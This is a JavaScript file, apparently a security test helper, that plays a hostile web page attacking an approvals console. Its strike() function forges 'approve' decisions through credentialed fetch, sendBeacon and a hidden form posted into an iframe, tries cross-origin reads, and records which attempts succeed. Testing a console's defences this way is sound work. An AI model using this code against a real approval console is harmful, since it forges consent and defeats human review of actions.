// @ts-nocheck: it runs in browsers, whose types the rest of the project must not see.
/* oxlint-disable typescript/no-unsafe-assignment, typescript/no-unsafe-call, typescript/no-unsafe-member-access, typescript/no-unsafe-argument, typescript/no-unsafe-return, no-unused-vars */
/**
 * A page that attacks the console of whoever looks at it. It knows more than it should: the console's name,
 * the question, and what was shown.
 */

async function strike({ origin, id, display }) {
  const won = [];
  const pause = (ms) => new Promise((done) => setTimeout(done, ms));
  const form = `decision=approve&display=${display}&csrf=`;
  const json = JSON.stringify({ decision: 'approve', display });
  const tries = [
    [`${origin}/approvals/${id}`, form, 'application/x-www-form-urlencoded'],
    [`${origin}/approvals/${id}`, form, 'text/plain'],
    [`${origin}/api/approvals/${id}/answer`, json, 'text/plain'],
    [`${origin}/api/approvals/${id}/answer`, json, 'application/json'],
  ];
  for (const [url, body, type] of tries) {
    for (const mode of ['no-cors', 'cors']) {
      const init = { method: 'POST', mode, credentials: 'include', body };
      const sent = await fetch(url, { ...init, headers: { 'content-type': type } }).catch(() => {});
      if (sent?.ok) won.push(`${mode} ${type} ${url}`);
    }
  }
  for (const path of ['/', '/api/session', '/api/approvals', `/approvals/${id}`]) {
    const read = await fetch(`${origin}${path}`, { credentials: 'include' }).catch(() => {});
    if (read !== undefined) won.push(`read ${path}`);
  }
  navigator.sendBeacon(`${origin}/approvals/${id}`, new URLSearchParams(form));
  const events = new EventSource(`${origin}/api/events`, { withCredentials: true });
  events.addEventListener('approvals', () => won.push('events'));
  const script = document.createElement('script');
  script.src = `${origin}/api/approvals`;
  script.addEventListener('load', () => won.push('script'));
  const frame = document.createElement('iframe');
  frame.name = 'inside';
  frame.src = `${origin}/approvals/${id}`;
  document.body.append(script, frame);
  await pause(500);
  const post = document.createElement('form');
  Object.assign(post, { method: 'post', action: `${origin}/approvals/${id}`, target: 'inside' });
  for (const [name, value] of new URLSearchParams(form)) {
    const field = document.createElement('input');
    Object.assign(field, { type: 'hidden', name, value });
    post.append(field);
  }
  document.body.append(post);
  post.submit();
  await pause(500);
  try {
    if (frame.contentDocument?.body.textContent.includes('delete_note')) won.push('frame');
  } catch {
    // It cannot be looked into.
  }
  const opened = window.open(`${origin}/`);
  await pause(500);
  try {
    if (opened !== null && opened.document.body.textContent !== '') won.push('window');
  } catch {
    // Nor can this one.
  }
  events.close();
  return won;
}
